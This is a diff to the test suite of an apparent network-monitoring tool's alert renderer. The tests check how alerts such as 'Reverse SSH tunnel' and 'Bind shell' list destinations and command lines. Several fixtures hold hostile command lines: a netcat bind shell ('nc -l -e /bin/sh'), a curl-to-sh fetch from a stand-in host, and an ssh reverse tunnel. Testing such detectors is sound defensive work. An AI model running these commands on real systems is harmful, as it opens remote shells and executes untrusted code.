@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import fcntl
 import json
+import os
 import re
+import struct
+import termios
 import unicodedata
 from datetime import UTC, timedelta, timezone
 from typing import Any
@@ -35,6 +39,7 @@ from api.render import (
     escape,
     format_argv,
     json_line,
+    line_width,
     totals_line,
 )
 
@@ -306,7 +311,7 @@ LINES: list[tuple[AnyEvent, str]] = [
             requested_port=0,
             outcome="success",
         ),
-        "bind    4242    curl             tcp 0.0.0.0:0->:41234",
+        "bind    4242    curl             tcp 0.0.0.0:41234",  # the port the kernel chose
     ),
     (
         BindEvent(
@@ -727,12 +732,14 @@ def _alert(**kw: Any) -> Alert:
 
 
 def test_alert_line_plain_and_escaped() -> None:
-    r = TextRenderer(color=False, tz=UTC)
+    r = TextRenderer(color=False, width=None, tz=UTC)
     assert r.alert_line(_alert()) == (
-        "22:13:20.123 ALERT   4242    ssh\\x1b[2J       [high] Reverse SSH tunnel"
+        "22:13:20.123 ALERT   4242    ssh\\x1b[2J       [high] Reverse SSH tunnel (rule r1)\n"
+        "             cmd: /usr/bin/curl"  # its executable (the process knows no argv)
     )
-    assert r.alert_line(_alert(count=12, repeat=True)) == (
-        "22:13:20.123 REPEAT  4242    ssh\\x1b[2J       [high x12] Reverse SSH tunnel"
+    assert r.alert_line(_alert(count=12, repeat=True, folds="h-0")) == (
+        "22:13:20.123 REPEAT  4242    ssh\\x1b[2J       [high x12] Reverse SSH tunnel (rule r1)\n"
+        "             cmd: /usr/bin/curl"
     )
 
 
@@ -741,3 +748,99 @@ def test_alert_line_is_highlighted_only_in_colour() -> None:
     assert "\x1b[1;7;31mALERT\x1b[0m" in line
     assert "\x1b[2J" not in line  # the process's bytes stay escaped
     assert "\x1b" not in TextRenderer(color=False).alert_line(_alert())
+
+
+def _connect(port: int, addr: str = "203.0.113.10", proc: Process | None = None) -> ConnectEvent:
+    return ConnectEvent(
+        **common(proc),
+        protocol="tcp",
+        family="ipv4",
+        daddr=addr,
+        dport=port,
+        outcome="success",
+    )
+
+
+def _ssh() -> Process:
+    proc = process(comm=b"ssh", exe=b"/usr/bin/ssh")
+    proc.argv = [b"ssh", b"-R", b"8080:localhost:22", b"tunnel@203.0.113.10", b"\x1b[2J"]
+    return proc
+
+
+def test_alert_names_its_destinations_and_the_command_line() -> None:
+    """Second line: where the process connected (the first three distinct destinations,
+    then how many more), and its command line, escaped and quoted like an exec line."""
+    r = TextRenderer(color=False, width=None, tz=UTC)
+    ssh = _ssh()
+    events = [_connect(22, proc=ssh), _connect(22, proc=ssh)]  # one destination, twice
+    events += [_connect(p, "198.51.100.1", ssh) for p in (443, 80, 8443, 993)]
+    alert = _alert(process=ssh, events=events, rule_id="63544065-6ab1-4983-842d")
+    assert r.alert_line(alert).split("\n") == [
+        "22:13:20.123 ALERT   4242    ssh              [high] Reverse SSH tunnel "
+        "(rule 63544065-6ab1-4983-842d)",
+        "             to: tcp 203.0.113.10:22, tcp 198.51.100.1:443, tcp 198.51.100.1:80 "
+        "and 2 more  cmd: /usr/bin/ssh -R 8080:localhost:22 tunnel@203.0.113.10 '\\x1b[2J'",
+    ]
+
+
+def test_alert_counts_the_events_it_left_out_and_shows_listeners() -> None:
+    r = TextRenderer(color=False, width=None, show_host=True, tz=UTC)
+    nc = process(comm=b"nc", exe=b"/usr/bin/nc.openbsd")
+    bind = BindEvent(
+        **common(nc),
+        protocol="tcp",
+        family="ipv4",
+        addr="0.0.0.0",
+        port=48571,
+        requested_addr="0.0.0.0",
+        requested_port=0,
+        outcome="success",
+    )
+    listen = ListenEvent(**common(nc), protocol="tcp", family="ipv4", addr="0.0.0.0", port=48571)
+    exec_ = ExecEvent(**common(nc), argv=[b"nc", b"-l", b"-e", b"/bin/sh"])
+    alert = _alert(process=nc, events=[exec_, bind, listen], omitted=7, title="Bind shell")
+    assert r.alert_line(alert).split("\n")[1] == (
+        "                          on: tcp 0.0.0.0:48571 (+7 events left out)  "
+        "cmd: /usr/bin/nc.openbsd -l -e /bin/sh"
+    )
+
+
+def test_alert_without_network_events_shows_the_command_line_only() -> None:
+    r = TextRenderer(color=False, width=None, tz=UTC)
+    curl = process()
+    exec_ = ExecEvent(**common(curl), argv=[b"curl", b"-s", b"http://192.0.2.1/x | sh"])
+    assert r.alert_line(_alert(process=curl, events=[exec_])).split("\n")[1] == (
+        "             cmd: /usr/bin/curl -s 'http://192.0.2.1/x | sh'"
+    )
+    # a summary of repeats with no events and an unknown command line: one line
+    bare = process(exe=b"")
+    assert "\n" not in r.alert_line(_alert(process=bare, repeat=True, count=3))
+
+
+def test_alert_lines_are_each_cut_to_the_width() -> None:
+    r = TextRenderer(color=False, width=60, tz=UTC)
+    ssh = _ssh()
+    alert = _alert(process=ssh, events=[_connect(22, proc=ssh)])
+    first, second = r.alert_line(alert).split("\n")
+    assert first == "22:13:20.123 ALERT   4242    ssh              [high] Revers…"
+    assert second == "             to: tcp 203.0.113.10:22  cmd: /usr/bin/ssh -R …"
+    assert all(columns(line) <= 60 for line in (first, second))
+
+
+def test_no_width_means_no_cut() -> None:
+    argv = [b"python3", b"-c", b"x" * 500]
+    line = TextRenderer(color=False, width=None, tz=UTC).line(exec_event(argv))
+    assert line.endswith(" /usr/bin/curl -c " + "x" * 500)
+
+
+def test_line_width_is_the_terminal_s_only_on_a_terminal(tmp_path: Any) -> None:
+    with (tmp_path / "out").open("w") as f:
+        assert line_width(None, f) is None  # a file: whole lines
+        assert line_width(120, f) == 120  # --width given: that
+    primary, secondary = os.openpty()
+    try:
+        fcntl.ioctl(primary, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 132, 0, 0))
+        with os.fdopen(secondary, "w") as tty:
+            assert line_width(None, tty) == 132
+    finally:
+        os.close(primary)
